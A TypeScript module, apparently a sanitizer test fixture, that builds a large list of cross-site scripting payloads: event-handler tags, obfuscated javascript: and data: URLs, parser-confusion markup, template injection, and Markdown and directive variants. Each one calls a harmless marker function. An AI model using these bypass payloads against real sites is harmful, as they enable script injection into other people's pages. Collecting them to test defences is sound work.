/** What each of them would call if it ran. */
export const alarm = "attuneAlarm";

const calls = [`${alarm}(1)`, `top.${alarm}(1)`, `window['${alarm}'](1)`, `${alarm}\`1\``];

const handlers: [tag: string, handler: string][] = [
  ["img src=x", "onerror"],
  ["img src=/icon.svg", "onload"],
  ["svg", "onload"],
  ["body", "onpageshow"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["video><source", "onerror"],
  ["audio src=x", "onerror"],
  ["iframe src=/support", "onload"],
  ["object data=x", "onerror"],
  ["marquee", "onstart"],
  ["p style=animation-name:x", "onanimationstart"],
  ["style", "onload"],
  ["link rel=stylesheet href=/x.css", "onerror"],
];

const links = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  " javascript:",
  "javascript&colon;",
  "&#106;avascript:",
  "&#x6A;avascript&#x3A;",
  "vbscript:",
  "data:text/html,<script>",
  "data:text/html;base64,PHNjcmlwdD4",
  "blob:",
  "view-source:javascript:",
  "//javascript:",
  "javascript://%0a",
  "\u0001javascript:",
  "feed:javascript:",
];

const wholeTags = (call: string) => [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${call}>">`,
  `<base href="javascript:/a/-${call}///////">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<isindex type=image src=1 onerror=${call}>`,
  `<template><script>${call}</script></template>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<![CDATA[><img src=x onerror=${call}>]]>`,
  `</textarea><img src=x onerror=${call}>`,
  `</title></style></script><img src=x onerror=${call}>`,
  `"><img src=x onerror=${call}>`,
  `' onmouseover='${call}' x='`,
  `\`\`\`\n<img src=x onerror=${call}>\n\`\`\``,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `\u2028<img src=x onerror=${call}>`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
];

const inMarkdown = (link: string, call: string) => [
  `[go](${link}${call})`,
  `[go](<${link}${call}>)`,
  `![go](${link}${call})`,
  `<${link}${call}>`,
  `[go][r]\n\n[r]: ${link}${call}`,
  `[go](/x "onmouseover=${call}")`,
];

const inDirectives = (call: string) => [
  `:b[x]{onclick=${call}}`,
  `:script[${call}]`,
  `::iframe{src="javascript:${call}"}`,
  `::img{src=x onerror=${call}}`,
  `:::script\n${call}\n:::`,
  `:a[x]{href="javascript:${call}" .x style="x:expression(${call})"}`,
  `::field[<img src=x onerror=${call}>]{#f hint="<img src=x onerror=${call}>"}`,
];

/** More than five hundred ways in which words have become programs elsewhere, as text, HTML, Markdown and directives. */
export function xssPayloads(): string[] {
  const [first = ""] = calls;
  const all = [
    ...handlers.flatMap(([tag, handler]) =>
      calls.flatMap((call) => [
        `<${tag} ${handler}=${call}>`,
        `<${tag}/${handler}="${call}" x>`,
        `<${tag.toUpperCase()} ${handler}='${call}'//`,
      ]),
    ),
    ...calls.flatMap(wholeTags),
    ...links.flatMap((link) => inMarkdown(link, first)),
    ...links.flatMap((link) => calls.slice(1, 3).flatMap((call) => inMarkdown(link, call).slice(0, 2))),
    ...calls.flatMap(inDirectives),
    ...calls.flatMap((call) => inDirectives(call).map((directive) => `> - ${directive}`)),
  ];
  return [...new Set(all)];
}
